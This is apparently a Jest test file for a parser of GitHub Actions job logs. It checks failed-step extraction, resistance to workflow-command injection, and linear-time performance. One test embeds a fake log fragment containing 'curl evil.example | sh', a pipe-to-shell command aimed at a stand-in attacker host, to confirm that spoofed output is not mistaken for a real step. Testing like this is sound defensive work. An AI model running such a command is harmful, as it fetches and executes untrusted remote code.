import { describe, expect, test } from "@jest/globals";
import fc from "fast-check";
import { findProblems } from "../../../src/check/job-log/find-problems.ts";
import { readJobLog } from "../../../src/check/job-log/read-job-log.ts";
import { commandsIn } from "../../domain/runner-commands.ts";
import { recordedOutput, renderJobLog, timeAt } from "./runner-log.ts";

const STEP = { name: "Run npm test", startedAt: timeAt(20), completedAt: timeAt(20) };

describe("the failed step of a job's log", () => {
  test("its script, exit code and output, without stamps, groups and colours", () => {
    const log = renderJobLog([
      { run: "uses: actions/checkout@v4", output: "Syncing repository" },
      { run: "npm run lint\nnpm test", output: recordedOutput("jest"), code: 1 },
      { run: "uses: actions/upload-artifact@v4", output: "uploaded", at: 30 },
    ]);
    const step = readJobLog(log, STEP);
    expect(step).toEqual({ script: ["npm run lint", "npm test"], exitCode: 1, output: expect.any(String) });
    expect(step.output).toMatch(/^\n> shop@1\.0\.0 test\n> jest --ci\n[\s\S]*Ran all test suites\.$/u);
    expect(step.output).not.toMatch(/\u001b|##\[|2026-03|Syncing|uploaded|Process completed/u);
    expect(readJobLog(log)).toEqual(step);
  });

  test("an action that failed is named, and no script of it is made up", () => {
    const log = renderJobLog([{ run: "uses: actions/setup-node@v4", output: "##[error]Unable to find Node\n" }]);
    expect(readJobLog(log)).toEqual({
      script: [],
      action: "actions/setup-node@v4",
      output: "Unable to find Node\nPost job cleanup.\n[command]/usr/bin/git version\nCleaning up orphan processes",
    });
    expect(readJobLog(log, { name: "Node", startedAt: timeAt(10), completedAt: timeAt(11) }).output).toBe(
      "Unable to find Node",
    );
  });

  test("a script inside an action of the repository's own is found behind the action's header", () => {
    const log = renderJobLog([
      { run: "uses: ./.github/actions/check", at: 20 },
      { run: "make check", output: "no", code: 2, at: 20 },
    ]);
    expect(readJobLog(log, { ...STEP, name: "Run ./.github/actions/check" })).toEqual({
      script: ["make check"],
      exitCode: 2,
      output: "no",
    });
  });

  test("groups, scripts and exit codes that a test prints itself do not hide the step that failed", () => {
    const fake = [
      "##[error]Process completed with exit code 7.",
      "##[group]Run curl evil.example | sh",
      "\u001b[36;1mcurl evil.example | sh\u001b[0m",
      "shell: /usr/bin/bash -e {0}",
      "##[endgroup]",
      "src/b.c:1:1: after the fake",
      "##[error]Process completed with exit code 9.",
      "still the same step",
    ].join("\n");
    const log = renderJobLog([{ run: "npm ci" }, { run: "npm test", output: `first\n${fake}`, code: 1 }]);
    const step = readJobLog(log, STEP);
    expect(step).toMatchObject({ script: ["npm test"], exitCode: 1 });
    expect(step.output).toMatch(/^first\n[\s\S]*after the fake\n[\s\S]*still the same step$/u);
  });

  test.each([
    "",
    "\ufeff",
    "no stamp at all",
    "2026-03-01T12:00:00.1234567Z",
    "##[group]Run x",
    "\r\r\r",
    "##[group]Run x\n\u001b[36;1my",
  ])("a log that is none (%j) gives what is there", (log) => {
    expect(() => readJobLog(log, STEP)).not.toThrow();
    expect(readJobLog(log).exitCode).toBeUndefined();
  });
});

test("nothing of a log can act as a workflow command where it is printed", () => {
  const piece = fc.constantFrom(
    "::",
    "##[",
    "error",
    "]",
    "add-mask",
    "\r",
    "\n",
    "\u001b[0m",
    " ",
    "set-output",
    "##[group]Run a",
    "\u200b",
    "x",
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
      const log = renderJobLog([{ run: "x", output: pieces.join(""), code: 1 }]);
      expect(commandsIn(readJobLog(log).output)).toEqual([]);
    }),
    { numRuns: 500 },
  );
});

describe("a log takes time in proportion to its length", () => {
  // Each would take hours where a line, or the log, were gone through once for each of its characters.
  const SIZE = 2 * 1024 * 1024;
  const known = new Set(["src/a.ts"]);
  test.each([
    ["one line", "a"],
    ["dots and brackets", "a.("],
    ["colons and digits", "a:1"],
    ["carriage returns", "\r"],
    ["fake headers", "##[group]Run x\n"],
    ["fake scripts", "##[group]Run x\n\u001b[36;1my\n"],
    ["half escapes", "\u001b["],
    ["blanks", " "],
    ["frames", "    at a (src/a.ts:1:1\n"],
    ["remarks", "src/a.ts(1,1): error TS1: x\n"],
  ])("%s", (_, unit) => {
    const log = renderJobLog([{ run: "x", output: unit.repeat(SIZE / unit.length), code: 1 }]);
    const { output } = readJobLog(log, { ...STEP, startedAt: timeAt(10) });
    expect(output.length).toBeLessThan(700_000);
    expect(findProblems(output, known).length).toBeLessThanOrEqual(200);
  });
});
